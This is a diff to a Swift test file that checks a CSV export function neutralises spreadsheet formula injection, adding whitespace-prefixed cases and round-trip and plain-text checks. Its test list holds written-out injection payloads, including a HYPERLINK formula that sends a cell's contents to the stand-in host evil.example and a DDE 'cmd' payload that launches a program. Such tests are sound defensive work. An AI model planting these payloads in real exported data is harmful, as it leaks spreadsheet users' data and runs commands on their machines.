@@ -28,10 +28,15 @@ struct CSVTextTests {
     func formulasBehindNumbers() throws {
         let hostile = [
             "-1+HYPERLINK(\"https://evil.example/?\"&D2,\"x\")", "-2-cmd|' /C calc'!A0", "+1+1", "-.5+A1", "\t=1",
-            "\r=1", "@x", "=1",
+            "\r=1", "@x", "=1", " =1+1", "   @SUM(A1)", "\u{00A0}-1+1", "\u{3000}=1",
         ]
         for field in hostile {
             #expect(CSVText.neutralised(field).hasPrefix("'"), "\(field) is written as it is")
+            // The spreadsheet import takes the apostrophe off again.
+            #expect(ActivitySpreadsheetReader.unescaped(CSVText.neutralised(field)) == field)
+        }
+        for plain in ["a = b", " a", "   ", ""] {
+            #expect(CSVText.neutralised(plain) == plain, "\(plain) is plain text")
         }
         for number in ["-2", "-12.5", "0.75", "-0.001", "42"] {
             #expect(CSVText.neutralised(number) == number, "\(number) is a number and stays one")
